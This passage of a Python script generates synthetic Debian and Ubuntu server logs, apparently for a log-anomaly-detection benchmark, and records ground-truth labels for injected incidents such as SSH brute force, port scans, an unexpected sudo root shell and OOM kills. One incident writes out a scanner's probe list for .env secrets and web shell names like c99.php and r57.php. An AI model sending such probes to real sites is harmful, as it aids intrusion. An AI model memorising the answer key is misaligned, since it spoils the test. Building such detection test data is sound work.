    def mid(t):
        c = "0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz"
        return "1t" + "".join(r.choice(c) for _ in range(4)) + "-" + "".join(r.choice(c) for _ in range(6)) + "-" + "".join(r.choice(c) for _ in range(2))

    for m in minutes_of(DAY0, END):
        for _ in range(poisson(r, 0.35 * (0.4 + diurnal(m)))):
            t = m + sec(r.uniform(0, 60))
            i = mid(t)
            exim(t, "%s <= shop@example-boutique.eu U=www-data P=local S=%d id=%s@example-boutique.eu" % (i, r.randint(2000, 30000), i))
            exim(t + sec(1), "%s => %s <%s> R=dnslookup T=remote_smtp H=%s [%s] X=TLS1.3:ECDHE_X25519__RSA_PSS_RSAE_SHA256__AES_256_GCM:256 CV=yes C=\"250 2.0.0 OK  %d - gsmtp\"" % (
                i, "customer%d@gmail.com" % r.randint(1, 9999), "customer%d@gmail.com" % r.randint(1, 9999), "gmail-smtp-in.l.google.com", "142.250.%d.%d" % (r.randint(0, 255), r.randint(1, 254)), r.randint(10 ** 9, 10 ** 10)))
            exim(t + sec(1), "%s Completed" % i)
        if r.random() < 0.06:
            t, ip = m + sec(r.uniform(0, 60)), rip(r)
            exim(t, "H=(%s) [%s]:%d rejected EHLO or HELO %s: syntactically invalid argument(s): %s" % ("ylmf-pc", ip, r.randint(1025, 65000), "ylmf-pc", "ylmf-pc") if r.random() < 0.3 else
                 "H=(%s) [%s]:%d F=<%s> rejected RCPT <%s@%s>: relay not permitted" % (r.choice(["WIN-CLJ1B0GQ6JP", "User", "mail.example.net"]), ip, r.randint(1025, 65000), "spameri@tiscali.it", r.choice(["info", "admin", "test"]), r.choice(["gmail.com", "yahoo.com.tw", "qq.com"])))
        if r.random() < 0.02:
            t, ip = m + sec(r.uniform(0, 60)), rip(r)
            for _ in range(r.randint(1, 3)):
                t += sec(r.uniform(1, 20))
                exim(t, "dovecot_login authenticator failed for (User) [%s]:%d: 535 Incorrect authentication data (set_id=%s@example-boutique.eu)" % (ip, r.randint(1025, 65000), r.choice(["info", "admin", "sales", "test"])))
    ip = rip(r)
    t0 = at(15, 47)
    t = t0
    for k in range(70):
        t += sec(r.uniform(3, 11))
        exim(t, "dovecot_login authenticator failed for (User) [%s]:%d: 535 Incorrect authentication data (set_id=%s@example-boutique.eu)" % (ip, r.randint(1025, 65000), r.choice(["info", "admin", "sales", "contact", "office", "shop", "noreply", "support"])))
    truth.add(name, "mail-auth-failures", t0, {"ip": ip}, end=t, note="70 Exim dovecot_login 535 failures in ~8 min from one IP")

    # ---- firewall: UFW background and one port scan surge
    def ufw(t, src, dpt, proto="TCP"):
        ln = "[UFW BLOCK] IN=eth0 OUT= MAC=96:00:03:a1:bb:7c:d2:74:7f:6e:37:e3:08:00 SRC=%s DST=95.217.41.18 LEN=%d TOS=0x00 PREC=0x00 TTL=%d ID=%d PROTO=%s SPT=%d DPT=%d " % (
            src, r.choice([40, 44, 52, 60]), r.randint(40, 250), r.randint(1, 65535), proto, r.randint(1025, 65000), dpt)
        ln += "WINDOW=%d RES=0x00 SYN URGP=0 " % r.choice([1024, 65535, 29200]) if proto == "TCP" else "LEN=%d " % r.randint(8, 100)
        kern(t, ln)

    common_ports = [23, 2323, 8080, 3389, 5900, 1433, 3306, 6379, 8443, 445, 81, 8888, 9200, 5060, 11211, 25565, 37215, 52869, 7547, 9000]
    for m in minutes_of(DAY0, END):
        for _ in range(poisson(r, 2.6)):
            ufw(m + sec(r.uniform(0, 60)), rip(r), r.choice(common_ports) if r.random() < 0.7 else r.randint(1, 65535), r.choice(["TCP"] * 9 + ["UDP"]))
    ip = rip(r)
    t0 = at(2, 14)
    t = t0
    for k in range(2500):
        t += sec(r.uniform(0.02, 0.17))
        ufw(t, ip, r.randint(1, 65535))
    truth.add(name, "firewall-drop-surge", t0, {"ip": ip}, end=t, note="UFW BLOCK from one IP, 2500 ports in ~4 min (background: ~2.6/min from many IPs)")

    # ---- cron, timers, logrotate, sessions
    for m in minutes_of(DAY0, END):
        jobs = []
        if m.minute % 10 == 0:
            jobs.append(("root", "command -v debian-sa1 > /dev/null && debian-sa1 1 1"))
        if m.minute % 5 == 0 and not (m >= at(13, 5)):
            jobs.append(("www-data", "cd /var/www/shop && php bin/console messenger:consume async --time-limit=280 >> var/log/worker.log 2>&1"))
        if m.minute == 17:
            jobs.append(("root", "cd / && run-parts --report /etc/cron.hourly"))
        for (u, cmd) in jobs:
            pid = h.newpid()
            t = m + sec(r.uniform(0.0, 0.9))
            auth(t, "CRON", "pam_unix(cron:session): session opened for user %s(uid=%d) by (uid=0)" % (u, 0 if u == "root" else 33), pid)
            syslog(t, "CRON", "(%s) CMD (%s)" % (u, cmd), pid)
            auth(t + sec(r.uniform(0.1, 1.5) if u == "root" else r.uniform(270, 281)), "CRON", "pam_unix(cron:session): session closed for user %s" % u, pid)
        if m.minute in (9, 39):
            t = m + sec(r.uniform(0, 5))
            syslog(t, "systemd", "Starting phpsessionclean.service - Clean php session files...", 1)
            syslog(t + sec(1), "systemd", "phpsessionclean.service: Deactivated successfully.", 1)
            syslog(t + sec(1), "systemd", "Finished phpsessionclean.service - Clean php session files.", 1)
    truth.add(name, "cron-not-run", at(13, 5), {}, {"user": "www-data"},
              note="the */5 www-data messenger:consume job stops after 13:00 (ran every 5 min on days 1-2)")
    for d in range(DAYS):
        t = DAY0 + timedelta(days=d, seconds=r.uniform(1, 3))
        syslog(t, "systemd", "Starting logrotate.service - Rotate log files...", 1)
        syslog(t + sec(1), "rsyslogd", "[origin software=\"rsyslogd\" swVersion=\"8.2302.0\" x-pid=\"611\" x-info=\"https://www.rsyslog.com\"] rsyslogd was HUPed", 611)
        syslog(t + sec(2), "systemd", "Reloading apache2.service - The Apache HTTP Server...", 1)
        aerr(t + sec(2), "mpm_event", "notice", "AH00493: SIGUSR1 received.  Doing graceful restart", pid=1021)
        aerr(t + sec(2), "ssl", "warn", "AH01909: www.example-boutique.eu:443:0 server certificate does NOT include an ID which matches the server name", pid=1021)
        aerr(t + sec(2), "mpm_event", "notice", "AH00489: Apache/2.4.62 (Debian) OpenSSL/3.0.15 configured -- resuming normal operations", pid=1021)
        aerr(t + sec(2), "core", "notice", "AH00094: Command line: '/usr/sbin/apache2'", pid=1021)
        syslog(t + sec(2), "systemd", "Reloaded apache2.service - The Apache HTTP Server.", 1)
        syslog(t + sec(4), "systemd", "logrotate.service: Deactivated successfully.", 1)
        syslog(t + sec(4), "systemd", "Finished logrotate.service - Rotate log files.", 1)
        # certbot twice a day
        for hh in (r.uniform(0, 11), r.uniform(12, 23)):
            t = DAY0 + timedelta(days=d, hours=hh)
            syslog(t, "systemd", "Starting certbot.service - Certbot...", 1)
            syslog(t + sec(3), "certbot", "Certificate not yet due for renewal", r.randint(20000, 90000))
            syslog(t + sec(4), "systemd", "certbot.service: Deactivated successfully.", 1)
            syslog(t + sec(4), "systemd", "Finished certbot.service - Certbot.", 1)
        # apt daily
        t = DAY0 + timedelta(days=d, hours=6, minutes=r.randint(0, 50))
        syslog(t, "systemd", "Starting apt-daily-upgrade.service - Daily apt upgrade and clean activities...", 1)
        syslog(t + sec(9), "systemd", "apt-daily-upgrade.service: Deactivated successfully.", 1)
        syslog(t + sec(9), "systemd", "Finished apt-daily-upgrade.service - Daily apt upgrade and clean activities.", 1)
        # admin alice: mistypes her password twice, then logs in, sometimes sudo (normal on this host)
        t = DAY0 + timedelta(days=d, hours=r.uniform(8, 10))
        ssh_login(h, auth, t, "alice", "84.115.223.41", method="password", fails=r.choice([1, 2, 2, 3]))
        sudo_line(h, auth, t + sec(40), "alice", "/usr/bin/journalctl -u apache2 --since today", "/home/alice")
        # deploy: CI logs in with a key and reloads apache via sudo (allowed)
        t = DAY0 + timedelta(days=d, hours=10, minutes=30, seconds=r.randint(0, 300))
        ssh_login(h, auth, t, "deploy", "20.61.17.224")
        sudo_line(h, auth, t + sec(12), "deploy", "/usr/bin/systemctl reload apache2", "/var/www/shop", tty="unknown")
        syslog(t + sec(12), "systemd", "Reloading apache2.service - The Apache HTTP Server...", 1)
        syslog(t + sec(13), "systemd", "Reloaded apache2.service - The Apache HTTP Server.", 1)
        # jenkins: a backup pull with rsync over ssh at night, never sudo
        t = DAY0 + timedelta(days=d, hours=2, minutes=r.randint(0, 20))
        ssh_login(h, auth, t, "jenkins", "20.61.17.230")
        # backup: nightly at 04:00 via key
        t = DAY0 + timedelta(days=d, hours=4, minutes=r.randint(0, 3))
        ssh_login(h, auth, t, "backup", "10.8.0.3")

    # ---- incidents of day 3 (the ones not woven in above)
    ip = rip(r)
    t0 = at(3, 40)
    t1 = ssh_brute(h, auth, ip, t0, 220, valid, ["root", "root", "admin", "ubuntu", "test", "user"], per_min=32)
    truth.add(name, "ssh-brute-force", t0, {"ip": ip}, end=t1, note="220 guesses in ~7 min, root/admin/ubuntu...")

    t0 = at(5, 5)
    ssh_login(h, auth, t0 - sec(30), "jenkins", "20.61.17.230")
    sudo_line(h, auth, t0, "jenkins", "/bin/bash", "/home/jenkins")
    truth.add(name, "unexpected-sudo-root", t0, {"user": "jenkins"}, note="jenkins (logs in daily, never sudo) runs sudo /bin/bash")

    ip = rip(r)
    t0 = at(7, 31)
    t = t0
    ua = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/92.0.4515.107 Safari/537.36"
    paths = PROBE_PATHS * 2 + ["/%s/.env" % w for w in ["dev", "prod", "old", "new", "v1", "v2", "test", "site", "public", "core", "src", "config"]] + \
        ["/%s.php" % w for w in ["shell", "wso", "alfa", "up", "cmd", "x", "1", "a", "admin", "bak", "c99", "r57", "about", "lock", "radio"]]
    r.shuffle(paths)
    for pth in paths:
        t += sec(r.uniform(0.3, 1.3))
        acc(t, ip, "GET", pth, r.choice([404] * 8 + [403, 301]), 196, "-", ua, 0.01)
    truth.add(name, "web-vuln-scan", t0, {"ip": ip}, end=t, note="%d sensitive-path probes in ~2 min, mostly 404" % len(paths))

    ip = rip(r)
    t0 = at(9, 12)
    t = t0 - sec(600)
    pid, port = r.randint(20000, 990000), r.randint(30000, 65000)
    for k in range(35):
        auth(t, "sshd", "Failed password for deploy from %s port %d ssh2" % (ip, port + k // 3), pid + k // 3)
        t += sec(r.uniform(12, 20))
    ssh_login(h, auth, t0, "deploy", ip, method="password")
    truth.add(name, "login-after-failures", t0, {"ip": ip, "user": "deploy"}, pre=t0 - sec(600),
              note="35 failed passwords for deploy over 10 min, then Accepted password for deploy (deploy normally uses a key from 20.61.17.224)")

    t0 = at(11, 2)
    for (tt, msg) in kernel_oom(r, t0, "mariadbd", 8000 + 2 * 17, "/system.slice/mariadb.service", 1480000, 0):
        kern(tt, msg)
    syslog(t0 + sec(0.2), "systemd", "mariadb.service: A process of this unit has been killed by the OOM killer.", 1)
    syslog(t0 + sec(0.3), "systemd", "mariadb.service: Main process exited, code=killed, status=9/KILL", 1)
    syslog(t0 + sec(0.3), "systemd", "mariadb.service: Failed with result 'oom-kill'.", 1)
    syslog(t0 + sec(0.3), "systemd", "mariadb.service: Consumed 41min 12.553s CPU time.", 1)
    syslog(t0 + sec(5.3), "systemd", "mariadb.service: Scheduled restart job, restart counter is at 1.", 1)
    syslog(t0 + sec(5.4), "systemd", "Starting mariadb.service - MariaDB 10.11.6 database server...", 1)
    mdb(t0 + sec(6), 0, "Note", "Starting MariaDB 10.11.6-MariaDB-0+deb12u1 source revision fecd78b83785d5ae96f2c6ff340375be803cd299 as process 9911")
    mdb(t0 + sec(6), 0, "Note", "InnoDB: Starting crash recovery from checkpoint LSN=%d" % r.randint(10 ** 9, 10 ** 10))
    mdb(t0 + sec(8), 0, "Note", "/usr/sbin/mariadbd: ready for connections.")
    syslog(t0 + sec(8), "systemd", "Started mariadb.service - MariaDB 10.11.6 database server.", 1)
    truth.add(name, "oom-kill", t0, {"process": "mariadbd"}, {"unit": "mariadb.service"}, end=t0 + sec(8),
              note="kernel OOM killer kills mariadbd; systemd restarts mariadb.service")

    t0 = at(17, 30)
    t = t0
    for k in range(15):
        aerr(t, "php", "error", "PHP Fatal error:  Uncaught Error: Call to undefined function App\\Legacy\\mysql_connect() in /var/www/shop/legacy/report.php:42\\nStack trace:\\n#0 /var/www/shop/public/index.php(31): App\\Legacy\\Report->run()\\n#1 {main}\\n  thrown in /var/www/shop/legacy/report.php on line 42", rip(r, CLIENT_NETS))
        acc(t, rip(r, CLIENT_NETS), "GET", "/legacy/report?month=11", 500, 0, "https://shop.example-boutique.eu/account/", r.choice(UA_BROWSER), 0.05)
        t += sec(r.uniform(10, 70))
    truth.add(name, "new-error-template", t0, {}, {"path": "/var/www/shop/legacy/report.php"}, end=t,
              note="a PHP Fatal error never seen before, 15 times in ~10 min")

    t0 = at(19, 10)
    mdb(t0, 0, "ERROR", "mariadbd: Disk full (/tmp/#sql-temptable-1f0a-9c-4e.MAI); waiting for someone to free some space... (errno: 28 \"No space left on device\")")
    for k in range(1, 4):
        mdb(t0 + sec(60 * k), 0, "Warning", "mariadbd: Retry in 60 secs. Message reprinted in 600 secs")
    mdb(t0 + sec(61), 812, "ERROR", "mariadbd: Error writing file '/var/lib/mysql/shop/orders.MAI' (Errcode: 28 \"No space left on device\")")
    truth.add(name, "disk-full", t0, {"process": "mariadbd"}, end=t0 + sec(240), note="MariaDB 'Disk full ... errno: 28' in mysql/error.log")
    return h


# ---------------------------------------------------------------- host B: Ubuntu 24.04, Docker containers + journal export, Dovecot, vsftpd

def cid(r):
    return "".join(r.choice("0123456789abcdef") for _ in range(64))


def host_docker_journal(name, seed, truth, scale):
    h = Host(name, seed)
    r = h.r
    boot = "".join(r.choice("0123456789abcdef") for _ in range(32))
    mach = "".join(r.choice("0123456789abcdef") for _ in range(32))
    cursor = [0]

    def j(t, ident, msg, pid=None, unit=None, prio=6, transport="syslog", extra=None):
        us = int(t.timestamp() * 1e6)
        cursor[0] += 1
        d = {"__CURSOR": "s=%s;i=%x;b=%s;m=%x;t=%x;x=%x" % (mach[:32], cursor[0], boot, us - int(DAY0.timestamp() * 1e6) + 3600000000, us, cursor[0] * 7919),
             "__REALTIME_TIMESTAMP": str(us), "__MONOTONIC_TIMESTAMP": str(us - int(DAY0.timestamp() * 1e6) + 3600000000),
             "_BOOT_ID": boot, "_MACHINE_ID": mach, "_HOSTNAME": name, "PRIORITY": str(prio), "_TRANSPORT": transport,
             "SYSLOG_FACILITY": "3", "SYSLOG_IDENTIFIER": ident, "MESSAGE": msg}
        if transport == "kernel":
            d["SYSLOG_FACILITY"] = "0"
            d["_SOURCE_MONOTONIC_TIMESTAMP"] = d["__MONOTONIC_TIMESTAMP"]
        if pid is not None:
            d["_PID"] = str(pid)
            d["SYSLOG_PID"] = str(pid)
        if unit:
            d["_SYSTEMD_UNIT"] = unit
            d["_SYSTEMD_CGROUP"] = "/system.slice/" + unit
        if extra:
            d.update(extra)
        h.add("journal/journal.json", t, json.dumps(d, separators=(",", ":")))

    def authj(t, prog, msg, pid=None):
        unit = {"sshd": "ssh.service", "sudo": None, "CRON": "cron.service", "systemd-logind": "systemd-logind.service"}.get(prog)
        if prog == "sshd":
            unit = "ssh.service"
        prio = 5 if ("Failed" in msg or "Invalid" in msg) else 6
        j(t, prog, msg, pid, unit, prio, extra={"SYSLOG_FACILITY": "10" if prog in ("sshd", "sudo", "CRON") else "3"})

    def kern(t, msg, prio=6):
        j(t, "kernel", msg, None, None, prio, transport="kernel")

    def sysd(t, msg, prio=6, unit=None):
        j(t, "systemd", msg, 1, "init.scope", prio, transport="journal", extra={"UNIT": unit} if unit else None)

    valid = {"root", "ubuntu", "deploy", "git"}
    ssh_background(h, authj, valid, per_day=(1400, 2600))

    # ---- containers (json-file driver under containers/<id>/<id>-json.log)
    cont = {n: cid(r) for n in ["api", "web", "worker", "redis"]}

    def dlog(n, t, line, stream="stdout"):
        c = cont[n]
        h.add("containers/%s/%s-json.log" % (c, c), t, json.dumps({"log": line + "\n", "stream": stream, "time": rfc3339n(t, r)}, separators=(",", ":")))

    for n in cont:
        h.rot["containers/%s/%s-json.log" % (cont[n], cont[n])] = ("docker", 10, 31)   # rotated by size: once a day here, at the deploy
    routes = [("GET", "/v1/orders"), ("GET", "/v1/orders/%d"), ("POST", "/v1/orders"), ("GET", "/v1/products"), ("GET", "/v1/products/%d"),
              ("GET", "/v1/me"), ("POST", "/v1/auth/refresh"), ("GET", "/healthz")]
    silent_web = at(15, 30)
    tls_bad = (at(10, 40), at(11, 55))
    spike = (at(19, 45), at(19, 58))
    for m in minutes_of(DAY0, END):
        f = diurnal(m, peak=13.5)
        for _ in range(poisson(r, 55 * f * scale)):
            t = m + sec(r.uniform(0, 60))
            meth, pth = r.choice(routes)
            if "%d" in pth:
                pth = pth % r.randint(1000, 99999)
            st = r.choice([200] * 30 + [201, 204, 304, 400, 401, 404])
            dur = r.lognormvariate(-3.3, 0.8)
            dlog("api", t, 'time=%s level=INFO msg="request" method=%s path=%s status=%d duration=%.3fms bytes=%d request_id=%s remote=%s' % (
                t.strftime("%Y-%m-%dT%H:%M:%S.") + "%03dZ" % (t.microsecond // 1000), meth, pth, st, dur * 1000, r.randint(80, 9000),
                "".join(r.choice("0123456789abcdef") for _ in range(16)), "172.18.0.%d:%d" % (r.randint(2, 9), r.randint(30000, 60000))))
            if r.random() < 0.006:
                dlog("api", t + sec(dur), 'time=%s level=ERROR msg="client disconnected" err="context canceled" path=%s' % (t.strftime("%Y-%m-%dT%H:%M:%S.") + "%03dZ" % (t.microsecond // 1000), pth))
        if r.random() < 0.08:
            t = m + sec(r.uniform(0, 60))
            dlog("api", t, "%s http: TLS handshake error from %s:%d: %s" % (t.strftime("%Y/%m/%d %H:%M:%S"), rip(r), r.randint(1025, 65000),
                 r.choice(["EOF", "tls: client offered only unsupported versions: [302 301]", "tls: no cipher suite supported by both client and server", "read tcp 172.18.0.3:8443->%s:%d: read: connection reset by peer" % (rip(r), r.randint(1025, 65000))])), "stderr")
        if tls_bad[0] <= m < tls_bad[1]:
            for _ in range(r.randint(3, 9)):
                t = m + sec(r.uniform(0, 60))
                dlog("api", t, 'time=%s level=ERROR msg="payment provider request failed" order_id=%d err="Post \\"https://api.payrail.example/v2/charges\\": tls: failed to verify certificate: x509: certificate has expired or is not yet valid: current time %s is after 2026-11-25T10:39:59Z" attempt=%d' % (
                    t.strftime("%Y-%m-%dT%H:%M:%S.") + "%03dZ" % (t.microsecond // 1000), r.randint(100000, 999999), t.strftime("%Y-%m-%dT%H:%M:%SZ"), r.randint(1, 3)))
        # web (Node, pino JSON), until it hangs on day 3
        if m < silent_web or m >= at(23, 59):
            for _ in range(poisson(r, 24 * f * scale)):
                t = m + sec(r.uniform(0, 60))
                ms = int(t.timestamp() * 1000)
                dlog("web", t, json.dumps({"level": 30, "time": ms, "pid": 1, "hostname": cont["web"][:12], "reqId": "req-%x" % r.randint(1, 10 ** 6),
                                           "req": {"method": "GET", "url": r.choice(["/", "/products", "/product/%d" % r.randint(1, 900), "/cart", "/_next/data/b7x/index.json"]), "remoteAddress": "172.18.0.1"},
                                           "res": {"statusCode": r.choice([200] * 20 + [304, 404])}, "responseTime": r.randint(2, 300), "msg": "request completed"}, separators=(",", ":")))
                if r.random() < 0.004:
                    dlog("web", t, json.dumps({"level": 50, "time": ms, "pid": 1, "hostname": cont["web"][:12], "err": {"type": "Error", "message": "aborted", "code": "ECONNRESET"}, "msg": "request aborted"}, separators=(",", ":")), "stderr")
        # worker (Python JSON)
        lam = 3.0 * f
        for _ in range(poisson(r, lam)):
            t = m + sec(r.uniform(0, 60))
            dlog("worker", t, json.dumps({"timestamp": t.strftime("%Y-%m-%dT%H:%M:%S,") + "%03d" % (t.microsecond // 1000), "level": "INFO", "logger": "worker.jobs", "message": "job done", "queue": r.choice(["emails", "thumbnails", "exports"]), "job_id": "%x" % r.randint(1, 10 ** 9), "duration_ms": r.randint(20, 4000)}))
        rl = 0.35 * f
        if spike[0] <= m < spike[1]:
            rl = 22.0
        for _ in range(poisson(r, rl)):
            t = m + sec(r.uniform(0, 60))
            dlog("worker", t, json.dumps({"timestamp": t.strftime("%Y-%m-%dT%H:%M:%S,") + "%03d" % (t.microsecond // 1000), "level": "WARNING", "logger": "worker.jobs", "message": "job retried", "queue": "emails", "job_id": "%x" % r.randint(1, 10 ** 9), "reason": "SMTPServerDisconnected('Connection unexpectedly closed')"}))
        # redis: RDB saves every 5 minutes when keys changed
        if m.minute % 5 == 0:
            t = m + sec(r.uniform(0, 2))
            pid = h.newpid()
            rts = lambda tt: "%d:M %02d %s %d %s.%03d" % (1, tt.day, MON[tt.month - 1], tt.year, tt.strftime("%H:%M:%S"), tt.microsecond // 1000)
            dlog("redis", t, "%s * %d changes in 300 seconds. Saving..." % (rts(t), r.randint(10, 900)))
            dlog("redis", t, "%s * Background saving started by pid %d" % (rts(t), pid))
            dlog("redis", t + sec(0.1), "%d:C %02d %s %d %s.%03d * DB saved on disk" % (pid, t.day, MON[t.month - 1], t.year, (t + sec(0.1)).strftime("%H:%M:%S"), 0))
            dlog("redis", t + sec(0.1), "%d:C %02d %s %d %s.%03d * Fork CoW for RDB: current 1 MB, peak 1 MB, average 1 MB" % (pid, t.day, MON[t.month - 1], t.year, (t + sec(0.1)).strftime("%H:%M:%S"), 0))
            dlog("redis", t + sec(0.2), "%s * Background saving terminated with success" % rts(t + sec(0.2)))
    truth.add(name, "tls-cert-failure", tls_bad[0], {"container": cont["api"]}, end=tls_bad[1],
              note="api (Go) cannot call its payment provider: x509 certificate has expired, 3-9 per minute for 75 min")
    truth.add(name, "service-silent", silent_web, {"container": cont["web"]},
              note="the web (Node) container logged 5-25 lines/min and stops completely at 15:30 (process hung)")
    truth.add(name, "spike-normal-line", spike[0], {"container": cont["worker"]}, end=spike[1],
              note="worker 'job retried' WARNING: ~0.1-0.35/min normally, 22/min for 13 min")

    # daily deploy at 10:31: containers restart (same ids)
    for d in range(DAYS):
        t = DAY0 + timedelta(days=d, hours=10, minutes=31, seconds=r.randint(0, 20))
        ssh_login(h, authj, t - sec(20), "deploy", "20.61.17.224")
        for n in ["api", "web", "worker"]:
            if n == "web" and d == 2 and t > silent_web:
                pass
            j(t, "dockerd", 'time="%s" level=info msg="ignoring event" container=%s module=libcontainerd namespace=moby topic=/tasks/delete type="*events.TaskDelete"' % (t.strftime("%Y-%m-%dT%H:%M:%S.") + "%09dZ" % (t.microsecond * 1000), cont[n]), 911, "docker.service")
        dlog("api", t, 'time=%s level=INFO msg="shutting down" signal=terminated' % (t.strftime("%Y-%m-%dT%H:%M:%S.") + "000Z"))
        dlog("api", t + sec(3), 'time=%s level=INFO msg="starting api" version=1.%d.%d commit=%s' % ((t + sec(3)).strftime("%Y-%m-%dT%H:%M:%S.") + "000Z", 14, d + 2, "".join(r.choice("0123456789abcdef") for _ in range(7))))
        dlog("api", t + sec(3), 'time=%s level=INFO msg="listening" addr=:8080 tls_addr=:8443' % ((t + sec(3)).strftime("%Y-%m-%dT%H:%M:%S.") + "000Z"))
        dlog("worker", t + sec(2), json.dumps({"timestamp": (t + sec(2)).strftime("%Y-%m-%dT%H:%M:%S,000"), "level": "INFO", "logger": "worker", "message": "worker starting", "queues": ["emails", "thumbnails", "exports"]}))
        if not (d == 2 and t > silent_web):
            dlog("web", t + sec(4), json.dumps({"level": 30, "time": int((t + sec(4)).timestamp() * 1000), "pid": 1, "hostname": cont["web"][:12], "msg": "Server listening at http://0.0.0.0:3000"}, separators=(",", ":")))
        # redis restarts with the deploy once a day: its startup warnings are normal here
        tr = t + sec(5)
        rr = "1:M %02d %s %d %s.%03d" % (tr.day, MON[tr.month - 1], tr.year, tr.strftime("%H:%M:%S"), 0)
        dlog("redis", tr, "1:C %02d %s %d %s.000 # WARNING Memory overcommit must be enabled! Without it, a background save or replication may fail under low memory condition. Being disabled, it can also cause failures without low memory condition, see https://github.com/jemalloc/jemalloc/issues/1328. To fix this issue add 'vm.overcommit_memory = 1' to /etc/sysctl.conf and then reboot or run the command 'sysctl vm.overcommit_memory=1' for this to take effect." % (tr.day, MON[tr.month - 1], tr.year, tr.strftime("%H:%M:%S")))
        dlog("redis", tr, "1:C %02d %s %d %s.000 * Redis version=7.4.1, bits=64, commit=00000000, modified=0, pid=1, just started" % (tr.day, MON[tr.month - 1], tr.year, tr.strftime("%H:%M:%S")))
        dlog("redis", tr, "%s * Server initialized" % rr)
        dlog("redis", tr, "%s * Loading RDB produced by version 7.4.1" % rr)
        dlog("redis", tr, "%s * Done loading RDB, keys loaded: %d, keys expired: 0." % (rr, r.randint(1000, 9000)))
        dlog("redis", tr, "%s * Ready to accept connections tcp" % rr)
        sudo_line(h, authj, t - sec(5), "deploy", "/usr/bin/docker compose -f /srv/app/compose.yaml up -d", "/srv/app", tty="unknown")
        # ubuntu admin with sudo, normal
        t = DAY0 + timedelta(days=d, hours=r.uniform(9, 17))
        ssh_login(h, authj, t, "ubuntu", "91.64.150.12")
        sudo_line(h, authj, t + sec(30), "ubuntu", "/usr/bin/apt list --upgradable", "/home/ubuntu")
        # apparmor denials from a snap, every few hours (noise with a scary word)
        for _ in range(r.randint(4, 9)):
            t = DAY0 + timedelta(days=d, hours=r.uniform(0, 24))
            kern(t, 'audit: type=1400 audit(%d.%03d:%d): apparmor="DENIED" operation="open" class="file" profile="snap.lxd.activate" name="/proc/sys/kernel/osrelease" pid=%d comm="lxd" requested_mask="r" denied_mask="r" fsuid=0 ouid=0' % (int(t.timestamp()), r.randint(0, 999), r.randint(100, 9999), r.randint(1000, 90000)), 5)
        # unattended upgrades, timers
        t = DAY0 + timedelta(days=d, hours=6, minutes=r.randint(0, 59))
        sysd(t, "Starting apt-daily-upgrade.service - Daily apt upgrade and clean activities...", unit="apt-daily-upgrade.service")
        sysd(t + sec(21), "apt-daily-upgrade.service: Deactivated successfully.", unit="apt-daily-upgrade.service")
        sysd(t + sec(21), "Finished apt-daily-upgrade.service - Daily apt upgrade and clean activities.", unit="apt-daily-upgrade.service")
        # the backup unit fails once every night on a locked file, then succeeds on retry (normal here)
        t = DAY0 + timedelta(days=d, hours=1, minutes=30, seconds=r.randint(0, 30))
        sysd(t, "Starting restic-backup.service - Restic backup...", unit="restic-backup.service")
        j(t + sec(40), "restic", "error: lstat /srv/app/data/redis/temp-%d.rdb: no such file or directory" % r.randint(10, 999), 3301, "restic-backup.service", 3)
        sysd(t + sec(41), "restic-backup.service: Main process exited, code=exited, status=3/NOTIMPLEMENTED", 5, unit="restic-backup.service")
        sysd(t + sec(41), "restic-backup.service: Failed with result 'exit-code'.", 4, unit="restic-backup.service")
        sysd(t + sec(41), "Failed to start restic-backup.service - Restic backup.", 3, unit="restic-backup.service")
        sysd(t + sec(341), "Starting restic-backup.service - Restic backup...", unit="restic-backup.service")
        sysd(t + sec(400), "restic-backup.service: Deactivated successfully.", unit="restic-backup.service")
        sysd(t + sec(400), "Finished restic-backup.service - Restic backup.", unit="restic-backup.service")
    # cron + timers every few minutes
    for m in minutes_of(DAY0, END):
        if m.minute % 15 == 0:
            pid = h.newpid()
            authj(m, "CRON", "pam_unix(cron:session): session opened for user root(uid=0) by root(uid=0)", pid)
            authj(m, "CRON", "(root) CMD (/usr/local/bin/docker-prune-images.sh >/dev/null 2>&1)", pid)
            authj(m + sec(2), "CRON", "pam_unix(cron:session): session closed for user root", pid)
        if m.minute == 0:
            sysd(m + sec(r.uniform(0, 3)), "Starting sysstat-collect.service - system activity accounting tool...", unit="sysstat-collect.service")
            sysd(m + sec(4), "sysstat-collect.service: Deactivated successfully.", unit="sysstat-collect.service")
            sysd(m + sec(4), "Finished sysstat-collect.service - system activity accounting tool.", unit="sysstat-collect.service")

    # ---- Dovecot (journal) and vsftpd background
    def dov(t, ip, user, n=1):
        j(t, "dovecot", "imap-login: Disconnected: Connection closed (auth failed, %d attempts in %d secs): user=<%s>, method=PLAIN, rip=%s, lip=10.0.0.5, TLS, session=<%s>" % (
            n, r.randint(2, 14) * n, user, ip, "".join(r.choice("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/") for _ in range(16))), r.randint(2000, 9000), "dovecot.service", 6)

    def ftp(t, msg):
        h.add("vsftpd.log", t, "%s %s [pid %d] %s" % (WDAY[t.weekday()], MON[t.month - 1] + " %2d" % t.day + " " + t.strftime("%H:%M:%S") + " " + str(t.year), r.randint(2000, 90000), msg))

    for m in minutes_of(DAY0, END):
        if r.random() < 0.03:
            dov(m + sec(r.uniform(0, 60)), rip(r), r.choice(["info@nordlicht-shop.de", "admin", "test", "sales@nordlicht-shop.de"]))
        if r.random() < 0.02 * (0.3 + diurnal(m)):
            t = m + sec(r.uniform(0, 60))
            u = r.choice(["mia@nordlicht-shop.de", "jonas@nordlicht-shop.de", "lager@nordlicht-shop.de"])
            j(t, "dovecot", "imap-login: Login: user=<%s>, method=PLAIN, rip=%s, lip=10.0.0.5, mpid=%d, TLS, session=<x%d>" % (u, rip(r, CLIENT_NETS), r.randint(2000, 90000), r.randint(1, 10 ** 6)), r.randint(2000, 9000), "dovecot.service")
        if r.random() < 0.004:
            ip = rip(r)
            t = m + sec(r.uniform(0, 60))
            ftp(t, 'CONNECT: Client "::ffff:%s"' % ip)
            ftp(t + sec(1), '[%s] FAIL LOGIN: Client "::ffff:%s"' % (r.choice(["anonymous", "admin", "ftp", "test"]), ip))
        if m.hour == 23 and m.minute == 5:
            t = m + sec(r.uniform(0, 30))
            ftp(t, 'CONNECT: Client "::ffff:10.8.0.7"')
            ftp(t + sec(1), '[scanner] OK LOGIN: Client "::ffff:10.8.0.7"')
            for k in range(r.randint(3, 12)):
